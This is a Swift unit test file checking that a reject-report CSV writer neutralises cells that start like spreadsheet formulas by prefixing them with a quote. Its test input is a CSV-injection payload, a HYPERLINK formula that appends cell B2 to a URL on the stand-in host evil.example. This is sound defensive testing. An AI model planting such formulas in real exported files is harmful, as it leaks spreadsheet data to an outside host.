import DriftlineCore
import DriftlineTestSupport
import Foundation
import Testing

/// The analyst's reject report is opened in Excel: no cell of it may start like a formula.
@Suite struct RejectReportWriterTests {
    static func report(lines: [String]) throws -> String {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("rejects-\(UUID().uuidString).csv")
            .path
        defer { try? FileManager.default.removeItem(atPath: path) }
        let writer = try RejectReportWriter(path: path)
        for (index, line) in lines.enumerated() {
            let finding = Finding(
                line: index + 2,
                column: "billed_amount",
                ruleID: "format.amount",
                severity: .error,
                message: "not an amount"
            )
            var bytes = Array(line.utf8)
            try bytes.withUnsafeMutableBufferPointer { raw in
                try writer.add(findings: [finding], raw: UnsafeBufferPointer(raw))
            }
        }
        try writer.close()
        return try String(contentsOfFile: path, encoding: .utf8)
    }

    @Test(arguments: ["=", "+", "-", "@", "\t", "\r"])
    func aCellThatStartsLikeAFormulaIsPrefixedWithAQuote(start: String) throws {
        let line = "\(start)HYPERLINK(\"http://evil.example/?\"&B2,\"x\"),acme-clinic,\(Claims.canary)"
        let text = try Self.report(lines: [line + "\n"])
        let row = text.split(separator: "\n", omittingEmptySubsequences: false)[1]
        let expected = "\"'\(start)HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"x\"\"),acme-clinic,\(Claims.canary)\""
        #expect(row == "2,\"billed_amount\",format.amount,error,\"not an amount\",\(expected)"[...])
    }

    @Test func ordinaryCellsAreUnchanged() throws {
        let text = try Self.report(lines: ["C1,acme-clinic,12x\n"])
        #expect(
            text
                == "line,column,rule,severity,message,original_line\n2,\"billed_amount\",format.amount,error,\"not an amount\",\"C1,acme-clinic,12x\"\n"
        )
    }
}
